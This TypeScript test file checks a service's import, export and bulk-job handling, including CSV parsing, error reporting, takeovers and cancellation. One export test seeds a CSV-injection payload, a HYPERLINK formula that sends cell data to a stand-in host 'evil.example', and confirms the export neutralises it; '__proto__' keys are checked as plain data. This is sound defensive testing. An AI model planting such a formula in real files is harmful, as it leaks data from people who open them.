import { createHash } from "node:crypto";
import { eventually } from "@rms/test-db/testkit";
import { describe, expect, it } from "vitest";
import type { Tenant } from "../../caller.js";
import { JobFiles } from "../../files/for-jobs.js";
import type { MarkedResource } from "../../resources/batch.js";
import { RESOURCES_COLLECTION } from "../../resources/store.js";
import { EVENTS_COLLECTION } from "../../storage/relay.js";
import { fileBytes, importFile, jobOf, jobStore, finishedJob, jsonLines, jobsWorker, queueJob, relayAll, seedResources } from "../../testutil/jobs.js";
import { useTestDatabase } from "../../testutil/database.js";
import { jobSnapshot } from "../render.js";
import { publicForm } from "../../public-form.js";
import { ensureRunnerIndexes } from "./claim.js";
import { exportExecutor } from "./export.js";
import { importExecutor } from "./import.js";
import type { RunnerJob } from "./seam.js";

// Imports from files, exports and results files (CONTRACT.md section 11) through an in-process worker on the real
// database; the kill -9 takeovers of both are in takeover.test.ts.

const { db, databaseName } = useTestDatabase("jobs-files", async (db) => {
  await ensureRunnerIndexes(db.collection<RunnerJob>("jobs"));
  await new JobFiles(db).ensureIndexes();
});

let tenants = 0;
const newTenant = (): Tenant => ({ account: `acct_files${process.pid}x${++tenants}`, livemode: false });
const resources = () => db.collection<MarkedResource>(RESOURCES_COLLECTION);
const sha256 = (bytes: Buffer) => createHash("sha256").update(bytes).digest("hex");

describe("imports from a file", () => {
  it("CSV: each row created once by its line, row errors with their line, results_file one line per row in row order, the file released", async () => {
    const tenant = newTenant();
    const csv =
      "\uFEFFname,status,metadata[plan]\r\n" +
      "alpha,active,pro\r\n" +
      '"bravo, with comma",paused,\r\n' +
      "\r\n" +
      ",active,x\r\n" + // line 5: no name
      "delta,sleeping,\r\n" + // line 6: unknown status
      '"echo\r\nsecond line",,team\r\n' + // lines 7-8
      "foxtrot,archived,";
    const file = await importFile(db, tenant, csv, "csv");
    const id = await queueJob(db, tenant, { type: "resources.import", params: { file } });
    const w = await jobsWorker(databaseName);
    const job = await finishedJob(db, id);
    await w.stop();
    expect(job.status).toBe("succeeded");
    expect(job.params).toEqual({ file });
    expect(job.progress).toEqual({ total: 6, processed: 6, failed: 2, skipped: 0 });
    expect(job.result?.created).toBe(4);
    expect(job.result?.errors.map((e) => [e.index, e.line, e.code, e.param])).toEqual([
      [2, 5, "parameter_missing", "name"],
      [3, 6, "parameter_invalid", "status"],
    ]);
    const made = await resources().find({ account: tenant.account }).sort({ name: 1 }).toArray();
    expect(made.map((r) => [r.name, r.status, r.metadata])).toEqual([
      ["alpha", "active", [{ k: "plan", v: "pro" }]],
      ["bravo, with comma", "paused", []],
      ["echo\r\nsecond line", "active", [{ k: "plan", v: "team" }]],
      ["foxtrot", "archived", []],
    ]);
    const results = await fileBytes(db, tenant, job.result!.results_file!);
    expect(results.purpose).toBe("job_results");
    expect(results.sha256).toBe(sha256(results.bytes));
    const byName = new Map(made.map((r) => [r.name, r._id]));
    expect(jsonLines(results.bytes)).toEqual([
      { line: 2, id: byName.get("alpha") },
      { line: 3, id: byName.get("bravo, with comma") },
      { line: 5, code: "parameter_missing", param: "name", message: expect.any(String) },
      { line: 6, code: "parameter_invalid", param: "status", message: expect.any(String) },
      { line: 7, id: byName.get("echo\r\nsecond line") },
      { line: 9, id: byName.get("foxtrot") },
    ]);
    // The import no longer holds its file: it expires at its own retention.
    const input = await new JobFiles(db).store.get(tenant, file);
    expect(input.held_by).toEqual([]);
  });

  it(
    "JSONL in small chunks: blank lines skipped, a line that is not one object fails alone; a redo of every chunk (a takeover at each) writes each " +
      "row and results line once",
    async () => {
      const tenant = newTenant();
      const lines = Array.from({ length: 95 }, (_, i) => (i % 10 === 3 ? "" : i === 50 ? "[1,2]" : JSON.stringify({ name: `j${i}`, metadata: { i } })));
      const file = await importFile(db, tenant, `${lines.join("\n")}\n`, "jsonl");
      const id = await queueJob(db, tenant, { type: "resources.import", params: { file } });
      // Each chunk is run twice from the same checkpoint, as a worker killed before its checkpoint leaves it.
      const inner = importExecutor(7, 20);
      const twice = {
        ...inner,
        async step(run: Parameters<typeof inner.step>[0], state: Parameters<typeof inner.step>[1]) {
          await inner.step(run, state);
          return inner.step(run, state);
        },
      };
      const w = await jobsWorker(databaseName, { executors: { "resources.import": twice } });
      const job = await finishedJob(db, id);
      await w.stop();
      const rows = lines.filter((l) => l !== "").length;
      expect(job.progress).toEqual({ total: rows, processed: rows, failed: 1, skipped: 0 });
      expect(await resources().countDocuments({ account: tenant.account })).toBe(rows - 1);
      const results = jsonLines((await fileBytes(db, tenant, job.result!.results_file!)).bytes);
      expect(results.map((r) => r["line"])).toEqual(lines.flatMap((l, i) => (l === "" ? [] : [i + 1])));
      expect(results.find((r) => r["line"] === 51)).toMatchObject({ code: "parameter_invalid", param: null });
      await relayAll(db);
      expect(await db.collection(EVENTS_COLLECTION).countDocuments({ account: tenant.account, type: "resource.created" })).toBe(rows - 1);
    },
  );

  it("a file that is not UTF-8, or a CSV without a name column, fails the job with file_invalid before anything is created", async () => {
    const tenant = newTenant();
    const good = Array.from({ length: 50 }, (_, i) => JSON.stringify({ name: `u${i}` })).join("\n");
    const notUtf8 = await importFile(db, tenant, Buffer.concat([Buffer.from(`${good}\n`), Buffer.from([0xff, 0xfe]), Buffer.from("\n")]), "jsonl");
    const noName = await importFile(db, tenant, "status,metadata[a]\nactive,x\n", "csv");
    const ids = [
      await queueJob(db, tenant, { type: "resources.import", params: { file: notUtf8 } }),
      await queueJob(db, tenant, { type: "resources.import", params: { file: noName } }),
    ];
    const w = await jobsWorker(databaseName, { executors: { "resources.import": importExecutor(10, 10) } });
    const jobs = await Promise.all(ids.map((id) => finishedJob(db, id)));
    await w.stop();
    for (const job of jobs) {
      expect(job.status).toBe("failed");
      expect(job.error?.code).toBe("file_invalid");
      expect(job.result).toMatchObject({ created: 0, results_file: null });
    }
    expect(jobs[0]!.error?.message).toContain("UTF-8");
    expect(jobs[1]!.error?.message).toContain("name");
    expect(await resources().countDocuments({ account: tenant.account })).toBe(0);
  });

  it("an inline import of 2,000 items: the job object and its job.succeeded event stay under 8 KB (params hold the file id only)", async () => {
    const tenant = newTenant();
    const items = Array.from({ length: 2_000 }, (_, i) => ({ name: `inline-${i}-${"x".repeat(150)}`, metadata: [{ k: "note", v: "y".repeat(400) }] }));
    const id = await queueJob(db, tenant, { type: "resources.import", params: { items } });
    const queued = (await jobOf(db, id))!;
    expect(Object.keys(queued.params)).toEqual(["file"]);
    expect(JSON.stringify(publicForm(jobSnapshot(queued), "job")).length).toBeLessThan(8 * 1024);
    const w = await jobsWorker(databaseName);
    const job = await finishedJob(db, id);
    await w.stop();
    expect(job.result?.created).toBe(2_000);
    expect(JSON.stringify(publicForm(jobSnapshot(job), "job")).length).toBeLessThan(8 * 1024);
    await relayAll(db);
    const event = await db.collection(EVENTS_COLLECTION).findOne({ "object.id": id });
    expect(event?.["type"]).toBe("job.succeeded");
    expect(JSON.stringify(event).length).toBeLessThan(8 * 1024);
    // The items are the file's lines: item i on line i + 1, metadata keys as data.
    const results = jsonLines((await fileBytes(db, tenant, job.result!.results_file!)).bytes);
    expect(results).toHaveLength(2_000);
    expect(results[1_999]).toMatchObject({ line: 2_000 });
  });

  it("a job whose every row fails with the longest messages stays bounded: 100 inline errors, each message and param cut", async () => {
    const tenant = newTenant();
    const lines = Array.from({ length: 300 }, (_, i) => JSON.stringify({ [`${"k".repeat(5_000)}${i}`]: "x" }));
    const file = await importFile(db, tenant, `${lines.join("\n")}\n`, "jsonl");
    const id = await queueJob(db, tenant, { type: "resources.import", params: { file } });
    const w = await jobsWorker(databaseName);
    const job = await finishedJob(db, id);
    await w.stop();
    expect(job.progress.failed).toBe(300);
    expect(job.result?.errors).toHaveLength(100);
    // 100 errors of at most a few hundred bytes each, whatever the rows held.
    expect(JSON.stringify(publicForm(jobSnapshot(job), "job")).length).toBeLessThan(48 * 1024);
  });

  it("an inline item's metadata keys such as __proto__ and a.b are data in the stored file and on the resource", async () => {
    const tenant = newTenant();
    const id = await queueJob(db, tenant, {
      type: "resources.import",
      params: {
        items: [
          {
            name: "keys",
            metadata: [
              { k: "__proto__", v: "p" },
              { k: "a.b", v: "1" },
            ],
          },
        ],
      },
    });
    const w = await jobsWorker(databaseName);
    await finishedJob(db, id);
    await w.stop();
    const made = await resources().findOne({ account: tenant.account });
    expect(made?.metadata).toEqual([
      { k: "__proto__", v: "p" },
      { k: "a.b", v: "1" },
    ]);
  });
});

describe("results of bulk jobs", () => {
  it("a bulk update's and a bulk delete's results_file: one line per item in id order, updated or deleted", async () => {
    const tenant = newTenant();
    const ids = await seedResources(db, tenant, 12, (i) => ({ status: i < 7 ? "active" : "paused" }));
    const update = await queueJob(db, tenant, {
      type: "resources.bulk_update",
      params: { filter: { status: "active" }, update: { metadata: [{ k: "done", v: "1" }] } },
    });
    const remove = await queueJob(db, tenant, { type: "resources.bulk_delete", params: { filter: { status: "paused" } } });
    const w = await jobsWorker(databaseName);
    const jobs = [await finishedJob(db, update), await finishedJob(db, remove)];
    await w.stop();
    const updated = jsonLines((await fileBytes(db, tenant, jobs[0]!.result!.results_file!)).bytes);
    expect(updated).toEqual(
      ids
        .slice(0, 7)
        .sort()
        .map((id) => ({ id, outcome: "updated" })),
    );
    const deleted = jsonLines((await fileBytes(db, tenant, jobs[1]!.result!.results_file!)).bytes);
    expect(deleted).toEqual(
      ids
        .slice(7)
        .sort()
        .map((id) => ({ id, outcome: "deleted" })),
    );
  });
});

describe("exports", () => {
  it("JSONL and CSV: every match at the start once, in id order, as read; later resources excluded; rows and sha256 agree with the stored file", async () => {
    const tenant = newTenant();
    const formula = '=HYPERLINK("http://evil.example/?"&B2,"Click")';
    const ids = await seedResources(db, tenant, 45, (i) => ({
      name: i === 6 ? 'quote " and, comma\nnewline' : i === 9 ? formula : `e${i}`,
      status: i % 3 === 0 ? "paused" : "active",
      metadata: i === 6 ? [{ k: "__proto__", v: "x" }] : [],
    }));
    const paused = ids.filter((_, i) => i % 3 === 0);
    const jsonl = await queueJob(db, tenant, { type: "resources.export", params: { filter: {}, format: "jsonl" } });
    const csv = await queueJob(db, tenant, { type: "resources.export", params: { filter: { status: "paused" }, format: "csv" } });
    const w = await jobsWorker(databaseName, { executors: { "resources.export": exportExecutor(10) } });
    const jobs = [await finishedJob(db, jsonl), await finishedJob(db, csv)];
    await w.stop();
    expect(jobs.map((j) => j.status)).toEqual(["succeeded", "succeeded"]);
    expect(jobs[0]!.result).toMatchObject({ exported: 45, file: expect.stringMatching(/^file_/) });
    expect(jobs[0]!.progress).toEqual({ total: 45, processed: 45, failed: 0, skipped: 0 });
    const all = await fileBytes(db, tenant, jobs[0]!.result!.file!);
    expect(all.purpose).toBe("resources_export");
    expect(all.size).toBe(all.bytes.length);
    expect(all.sha256).toBe(sha256(all.bytes));
    const rows = jsonLines(all.bytes);
    expect(rows.map((r) => r["id"])).toEqual([...ids].sort());
    expect(Object.keys(rows[0]!)).toEqual(["id", "object", "name", "status", "metadata", "created"]);
    expect(rows.find((r) => r["name"] === 'quote " and, comma\nnewline')?.["metadata"]).toEqual(JSON.parse('{"__proto__":"x"}'));
    // JSONL is exact; CSV neutralises a formula with a leading ' (OWASP's CSV injection guidance).
    expect(rows.find((r) => r["id"] === ids[9])?.["name"]).toBe(formula);

    const table = await fileBytes(db, tenant, jobs[1]!.result!.file!);
    const { parse } = await import("csv-parse/sync");
    const records = parse(table.bytes, { columns: true }) as Record<string, string>[];
    expect(Object.keys(records[0]!)).toEqual(["id", "name", "status", "created", "metadata"]);
    expect(records.map((r) => r["id"])).toEqual([...paused].sort());
    expect(records.every((r) => r["status"] === "paused")).toBe(true);
    expect(records.find((r) => r["name"]!.startsWith("quote"))?.["metadata"]).toBe('{"__proto__":"x"}');
    expect(records.find((r) => r["id"] === ids[9])?.["name"]).toBe(`'${formula}`);
    expect(table.sha256).toBe(sha256(table.bytes));
  });

  it("an export that matches nothing succeeds: an empty JSONL file, a CSV of its header alone", async () => {
    const tenant = newTenant();
    await seedResources(db, tenant, 3, (i) => ({ name: `e${i}`, status: "active", metadata: [] }));
    const jsonl = await queueJob(db, tenant, { type: "resources.export", params: { filter: { status: "paused" }, format: "jsonl" } });
    const csv = await queueJob(db, tenant, { type: "resources.export", params: { filter: { status: "paused" }, format: "csv" } });
    const w = await jobsWorker(databaseName, { executors: { "resources.export": exportExecutor(10) } });
    const jobs = [await finishedJob(db, jsonl), await finishedJob(db, csv)];
    await w.stop();
    expect(jobs.map((j) => [j.status, j.result?.exported])).toEqual([
      ["succeeded", 0],
      ["succeeded", 0],
    ]);
    const empty = await fileBytes(db, tenant, jobs[0]!.result!.file!);
    expect([empty.size, empty.bytes.length, empty.sha256]).toEqual([0, 0, sha256(Buffer.alloc(0))]);
    const header = await fileBytes(db, tenant, jobs[1]!.result!.file!);
    expect(header.bytes.toString("utf8").trim()).toBe("id,name,status,created,metadata");
  });

  it(
    "a chunk redone after a takeover writes its part again in place: no row " + "twice, none missing; resources made after the start are not exported",
    async () => {
      const tenant = newTenant();
      const ids = await seedResources(db, tenant, 33);
      const id = await queueJob(db, tenant, { type: "resources.export", params: { filter: {}, format: "jsonl" } });
      const inner = exportExecutor(4);
      let late = false;
      const twice = {
        ...inner,
        async step(run: Parameters<typeof inner.step>[0], state: Parameters<typeof inner.step>[1]) {
          if (!late) {
            late = true;
            // Made after the job started: a seeded resource's id is a second older than now, so wait past that.
            await new Promise((resolve) => setTimeout(resolve, 1_500));
            await seedResources(db, tenant, 5);
          }
          await inner.step(run, state);
          return inner.step(run, state);
        },
      };
      const w = await jobsWorker(databaseName, { executors: { "resources.export": twice } });
      const job = await finishedJob(db, id);
      await w.stop();
      const rows = jsonLines((await fileBytes(db, tenant, job.result!.file!)).bytes);
      expect(rows.map((r) => r["id"])).toEqual([...ids].sort());
    },
  );

  it("cancel leaves no file: the parts written are dropped and result.file is null", async () => {
    const tenant = newTenant();
    await seedResources(db, tenant, 3_000);
    const id = await queueJob(db, tenant, { type: "resources.export", params: { filter: {}, format: "csv" } });
    const w = await jobsWorker(databaseName, { executors: { "resources.export": exportExecutor(20) } });
    await eventually(async () => expect((await jobOf(db, id))?.progress.processed).toBeGreaterThan(0), { timeoutMs: 30_000, intervalMs: 10 });
    await jobStore(db).cancel(tenant, id, { requestId: null, idempotencyKey: null });
    const job = await finishedJob(db, id);
    await w.stop();
    expect(job.status).toBe("canceled");
    expect(job.result).toMatchObject({ file: null });
    const output = job.checkpoint!.output!.file;
    expect(await new JobFiles(db).store.find(tenant, output)).toBeNull();
    expect(await db.collection("file_blob_chunks").countDocuments({ b: output })).toBe(0);
  });
});
